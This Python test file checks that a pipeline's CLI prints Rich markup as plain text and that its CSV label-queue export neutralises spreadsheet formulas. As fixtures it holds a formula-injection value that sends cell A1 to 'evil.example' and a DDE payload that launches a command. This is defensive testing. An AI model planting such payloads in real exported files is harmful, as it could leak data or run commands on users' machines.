"""Publishers' strings through the real CLI on a live pipeline (issue 25): Rich markup in a stored
source is printed as text by `documents search`, `label queue`, `alerts list` and the alert printer
of `up`, never parsed (a `[/bold]` used to crash them); the label queue's CSV runs no formula in a
spreadsheet, and the ids in it still come back exactly through `bloomwatch label FILE`."""

import csv
import io
import json
import os
import subprocess
from datetime import timedelta

import httpx
import pytest
from dashboard_support import now_utc, run_python
from pipeline_support import Deployment, running_pipeline, wait_until
from rich.console import Console

from app.processes import bloomwatch_command
from app.up import alert_line
from bloomwatch.alerts.windows import group_key

pytestmark = pytest.mark.kafka

MARKUP = "[/bold]"  # a closing tag with nothing open: rich.errors.MarkupError when parsed
FORMULA_ID = '=HYPERLINK("https://evil.example/?leak="&A1,"open")'
FORMULA_TEXT = "=cmd|' /C calc'!A0"

# Written into the store the worker is about to own: documents with predictions, and an alert.
SEED = """
from datetime import datetime, timedelta
import clickhouse_connect
from dashboard_support import insert_alert, insert_copy, populate
from store.documents import ddl_statements

dsn, end, markup, formula_id, formula_text = sys.argv[1], datetime.fromisoformat(sys.argv[2]), *sys.argv[3:]
client = clickhouse_connect.get_client(dsn=dsn)
for statement in ddl_statements():
    client.command(statement)
populate(client, 20, end=end, span=timedelta(hours=1))
insert_copy(client, "doc-0", id="markup-1", source=markup, text="[red]unclosed")
insert_copy(client, "doc-0", id=formula_id, source="@SUM(1+1)", text=formula_text)
insert_alert(client, alert_id="a-markup", source=markup, state="firing", started_at=end - timedelta(minutes=5))
print("seeded")
"""


@pytest.fixture(scope="module")
def pipeline(kafka_broker, tiny_registry, tmp_path_factory):
    def seed(deployment: Deployment) -> None:
        end = now_utc() - timedelta(minutes=1)
        run_python(SEED, deployment.settings.clickhouse_dsn, end.isoformat(), MARKUP, FORMULA_ID, FORMULA_TEXT)

    with running_pipeline(
        tiny_registry.root, kafka_broker, tmp_path_factory.mktemp("hostile-cli"), before_worker=seed
    ) as deployment:
        yield deployment


def _cli(deployment: Deployment, *args: str, cwd=None) -> subprocess.CompletedProcess:
    env = {**os.environ, **deployment.env, "COLUMNS": "300"}
    return subprocess.run(bloomwatch_command(*args), env=env, capture_output=True, text=True, timeout=120, cwd=cwd)


def test_documents_search_and_alerts_list_print_markup_as_text(pipeline):
    found = _cli(pipeline, "documents", "search", "--source", MARKUP)
    assert found.returncode == 0, found.stderr
    assert MARKUP in found.stdout and "[red]unclosed" in found.stdout and "1 document(s)" in found.stderr

    listed = _cli(pipeline, "alerts", "list")
    assert listed.returncode == 0, listed.stderr
    assert group_key(["source"], [MARKUP]) in listed.stdout  # the key as stored: values percent-encoded


def test_label_queue_csv_runs_no_formula_and_its_ids_come_back_exactly(pipeline, tmp_path):
    out = tmp_path / "queue.csv"
    queued = _cli(pipeline, "label", "queue", "--task", "sentiment", "--n", "100", "--out", str(out))
    assert queued.returncode == 0, queued.stderr
    assert MARKUP in queued.stdout + queued.stderr  # the sources it names, as text
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert {"'" + FORMULA_ID, "markup-1"} <= {row["document_id"] for row in rows}
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert next(row for row in rows if row["document_id"] == "'" + FORMULA_ID)["text"] == "'" + FORMULA_TEXT

    for row in rows:  # the annotator's work
        row.update(label="negative", annotator="tester")
    with out.open("w", newline="", encoding="utf-8") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    sent = _cli(pipeline, "label", str(out))
    assert sent.returncode == 0, sent.stdout + sent.stderr

    def labelled() -> set[str]:
        response = httpx.get(f"{pipeline.api}/api/labels", params={"task": "sentiment", "limit": 1000}, timeout=30)
        return {label["document_id"] for label in response.json()["labels"]}

    wait_until(lambda: len(labelled()) >= len(rows), 60, "the labels stored")
    assert FORMULA_ID in labelled() and "'" + FORMULA_ID not in labelled()


def test_the_alert_printer_of_up_shows_markup_as_text():
    payload = {
        "status": "firing", "rule": "negative-share-by-source", "group_key": f"source={MARKUP}", "severity": "critical",
        "observed": 0.8, "baseline": 0.2, "statistic": 6.0, "documents": 40, "window_start": "2026-01-01T00:00:00Z",
        "window_end": "2026-01-01T00:01:00Z", "terms": [{"term": "[link=https://evil.example]x"}], "dashboard_url": "http://127.0.0.1:6070/dashboard",
    }  # fmt: skip
    console = Console(file=io.StringIO(), width=300)
    console.print(alert_line(json.dumps(payload).encode()))  # as the alerts topic carries it
    for not_an_alert in (
        b"not json",
        b"[]",
        b'{"status": "firing"}',
        json.dumps({**payload, "observed": "x"}).encode(),
    ):
        console.print(alert_line(not_an_alert))  # anyone who may write to the topic
    printed = console.file.getvalue().splitlines()
    assert printed[0].startswith("ALERT [FIRING]") and f"source={MARKUP}" in printed[0]
    assert any("[link=https://evil.example]x" in line for line in printed)
    assert sum(line.startswith("alerts topic: skipped a message that is no alert") for line in printed) == 4
